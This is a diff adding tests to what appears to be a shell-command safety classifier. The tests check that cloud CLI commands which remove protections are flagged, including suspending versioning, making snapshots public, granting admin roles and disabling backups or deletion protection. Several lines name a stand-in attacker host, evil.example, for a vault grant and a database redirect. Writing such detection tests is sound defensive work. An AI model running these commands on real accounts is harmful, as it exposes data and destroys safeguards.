@@ -123,3 +123,71 @@ describe("homes, hooks and shadowing functions redirect later programs", () => {
     expect(bash("export KUBE_EDITOR=vim").level).not.toBe("SECURITY");
   });
 });
+
+/** ADR 0513: a cloud change that takes a protection away, whatever the CLI and the verb. */
+describe("cloud changes that take a protection away are SECURITY", () => {
+  test.each([
+    "aws s3api put-bucket-versioning --bucket b --versioning-configuration Status=Suspended",
+    "aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --attribute createVolumePermission --operation-type add --group-names all",
+    "aws rds modify-db-instance --db-instance-identifier db --backup-retention-period 0 --apply-immediately",
+    "aws rds modify-db-cluster --db-cluster-identifier c --no-deletion-protection",
+    "aws ec2 modify-image-attribute --image-id ami-1 --launch-permission 'Add=[{Group=all}]'",
+    "aws rds modify-db-snapshot-attribute --db-snapshot-identifier s --attribute-name restore --values-to-add all",
+    "aws iam add-user-to-group --group-name Admins --user-name intern",
+    "aws iam attach-user-policy --user-name x --policy-arn arn:aws:iam::aws:policy/AdministratorAccess",
+    "aws dynamodb update-continuous-backups --table-name t --point-in-time-recovery-specification PointInTimeRecoveryEnabled=false",
+    "aws ec2 modify-instance-metadata-options --instance-id i-1 --http-tokens optional",
+    "aws s3api put-bucket-logging --bucket b --bucket-logging-status '{}'",
+    'aws sqs set-queue-attributes --queue-url u --attributes \'{"Policy":"{\\"Principal\\":\\"*\\"}"}\'',
+    "aws elbv2 modify-load-balancer-attributes --load-balancer-arn a --attributes Key=deletion_protection.enabled,Value=false",
+    "aws dynamodb update-table --table-name t --no-deletion-protection-enabled",
+    "aws apigateway update-stage --rest-api-id a --stage-name s --patch-operations op=replace,path=/*/*/throttling/rateLimit,value=0",
+    "aws autoscaling update-auto-scaling-group --auto-scaling-group-name g --desired-capacity 0 --min-size 0",
+    "gcloud sql instances patch db --no-backup",
+    "gcloud storage buckets update gs://b --no-versioning",
+    "gcloud container clusters update c --no-enable-master-authorized-networks",
+    "gcloud container clusters resize c --node-pool p --num-nodes 0 --quiet",
+    "gcloud compute instance-groups managed resize m --size 0 --zone z",
+    "gcloud compute instances set-service-account vm --scopes cloud-platform --service-account sa@p.iam.gserviceaccount.com",
+    "gcloud projects add-iam-policy-binding p --member=allUsers --role=roles/viewer",
+    "az storage account update -n s -g g --default-action Allow",
+    "az keyvault set-policy -n kv --upn a@evil.example --secret-permissions all",
+    "az keyvault update -n kv --enable-purge-protection false",
+    "az vm user update -g g -n vm -u azureuser -p 'P@ssw0rd1234'",
+    "az role assignment create --assignee x --role Owner",
+    "kubectl set env deployment/api DATABASE_URL=postgres://evil.example/app",
+    "kubectl set serviceaccount deployment api cluster-admin-sa",
+    'kubectl patch pv pv-data -p \'{"spec":{"persistentVolumeReclaimPolicy":"Delete"}}\'',
+    "kubectl rollout restart deployment -n production",
+    "kubectl scale deployment api --replicas=0",
+    "helm upgrade api ./chart --set replicaCount=0",
+    "helm upgrade db bitnami/postgresql --reuse-values --set primary.persistence.enabled=false",
+    "doctl databases update db --no-backup",
+  ])("%s", (command) => {
+    expect(atLeastSecurity(bash(command))).toBe(true);
+  });
+
+  test("a terraform state move makes the next apply destroy and remake", () => {
+    expect(bash("terraform state mv aws_db_instance.main aws_db_instance.old").level).toBe("DESTRUCTIVE");
+  });
+
+  test.each([
+    "aws s3api put-bucket-versioning --bucket b --versioning-configuration Status=Enabled",
+    "aws rds modify-db-instance --db-instance-identifier db --backup-retention-period 7",
+    "aws ec2 modify-instance-metadata-options --instance-id i-1 --http-tokens required",
+    "aws iam add-user-to-group --group-name Developers --user-name intern",
+    "aws iam get-group --group-name Admins",
+    "aws ec2 describe-snapshot-attribute --snapshot-id snap-1 --attribute createVolumePermission",
+    "gcloud sql instances patch db --backup-start-time 03:00",
+    "gcloud container clusters resize c --num-nodes 3",
+    "az storage account update -n s --default-action Deny",
+    "kubectl set env deployment/api LOG_LEVEL=debug -n staging",
+    "kubectl set env deployment/api DATABASE_URL=postgres://db:5432/app",
+    "kubectl rollout restart deployment/api -n dev",
+    "kubectl get pods -n production",
+    "helm upgrade api ./chart --set replicaCount=3",
+    "helm upgrade api ./chart --set persistence.enabled=true",
+  ])("%s is not", (command) => {
+    expect(bash(command).categories).not.toContain("protection-off");
+  });
+});
